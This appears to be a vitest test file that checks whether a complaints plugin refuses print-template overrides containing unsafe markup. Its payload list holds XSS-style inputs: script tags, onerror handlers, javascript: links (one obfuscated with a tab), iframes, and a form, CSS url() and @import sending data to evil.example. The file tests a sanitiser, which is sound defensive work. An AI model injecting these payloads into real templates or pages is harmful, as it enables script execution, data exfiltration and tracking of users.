/**
 * Raw markup in a company's print-template overrides (issue 13, finding 8): a template carrying a
 * script, a form, an event handler, a javascript: link, a frame, an object or a CSS url() is
 * refused when the configuration is checked, with the template's pointer and the line; nothing is
 * stored. A template written with the allowed markup (the plugin's own, edited) is accepted.
 */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestKernel, type TestKernel } from '../../core/testing/harness.js';
import { ROOT_DIR } from '../../core/kernel.js';
import { ConfigVersion } from '../../core/db/entities/index.js';

interface ErrorBody { code: string; issues: { pointer: string; code: string; message: string }[] }
let kernel: TestKernel;
let admin: string;
const SHEET = readFileSync(path.join(ROOT_DIR, 'plugins/complaints/templates/complaint-sheet.hbs'), 'utf8');
const POINTER = '/plugins/complaints/templates/complaint-sheet';

const propose = (templates: Record<string, string>, project?: string) => kernel.call(admin, 'POST', '/api/config/versions', {
  reason: '打印模板',
  document: project ? { projects: { [project]: { plugins: { complaints: { templates } } } } } : { plugins: { complaints: { templates } } },
});

beforeAll(async () => {
  kernel = await startTestKernel({ plugins: ['service-desk', 'complaints'] });
  await kernel.seed();
  admin = await kernel.login('admin');
}, 120_000);
afterAll(async () => kernel?.close());

describe('print template overrides', () => {
  const attacks: [string, string, RegExp][] = [
    ['a script', '<script>fetch("/api/staff")</script>', /<script>/],
    ['a form posting elsewhere', '<form action="https://evil.example"><input name="p"></form>', /<form>/],
    ['an event handler', '<img src="{{data.residentSignature}}" onerror="alert(1)">', /onerror/],
    ['a javascript: link', '<a href="javascript:alert(1)">打印</a>', /javascript:/],
    ['a javascript: link hidden by a tab', '<a href="java&#9;script:alert(1)">打印</a>', /javascript:/],
    ['a frame', '<iframe src="/api/staff"></iframe>', /<iframe>/],
    ['an object', '<object data="x.swf"></object>', /<object>/],
    ['a CSS url()', '<div style="background:url(https://evil.example/t.png)">x</div>', /url\(\)/],
    ['a style sheet importing another', '<style>@import "https://evil.example/x.css";</style>', /@import/],
    ['a remote image (tracking)', '<img src="https://evil.example/pixel.png">', /image/],
    ['a printed value as link', '<a href="{{data.place}}">地点</a>', /href/],
  ];
  for (const [what, markup, message] of attacks) {
    it(`refuses ${what}, naming the template and the line, and stores nothing`, async () => {
      const before = await kernel.orm.em.fork().count(ConfigVersion, {});
      const res = await propose({ 'complaint-sheet': SHEET.replace('<header>', `<header>\n${markup}`) });
      expect(res.statusCode, res.body).toBe(400);
      const issues = (res.json() as ErrorBody).issues.filter((i) => i.code === 'template-markup');
      expect(issues.length, res.body).toBeGreaterThan(0);
      expect(issues[0]!.pointer).toMatch(new RegExp(`${POINTER}$`));
      expect(issues.map((i) => i.message).join('\n')).toMatch(message);
      expect(issues[0]!.message).toMatch(/^line \d+ column \d+/);
      expect(await kernel.orm.em.fork().count(ConfigVersion, {})).toBe(before);
    });
  }

  it('refuses it in a project override too, at that project\'s pointer, through POST /api/config/check', async () => {
    const res = await kernel.call(admin, 'POST', '/api/config/check', { document: { projects: { CH: { plugins: { complaints: { templates: { 'complaint-sheet': SHEET.replace('</section>', '<script>alert(1)</script></section>') } } } } } } });
    const body = res.json() as { ok?: boolean; issues: { pointer: string; code: string }[] };
    const issue = body.issues.find((i) => i.code === 'template-markup');
    expect(issue?.pointer, res.body).toMatch(new RegExp(`/projects/CH${POINTER}$`));
  });

  it('accepts the plugin\'s own sheet with allowed edits (a title, a styled note, a fixed link)', async () => {
    const edited = SHEET.replace('<header>', '<header>\n<p class="note" style="font-weight:bold;color:#333">本单一式两份</p><a href="https://wuye.example.com/help">说明</a>');
    const res = await propose({ 'complaint-sheet': edited });
    expect(res.statusCode, res.body).toBe(201);
  });
});
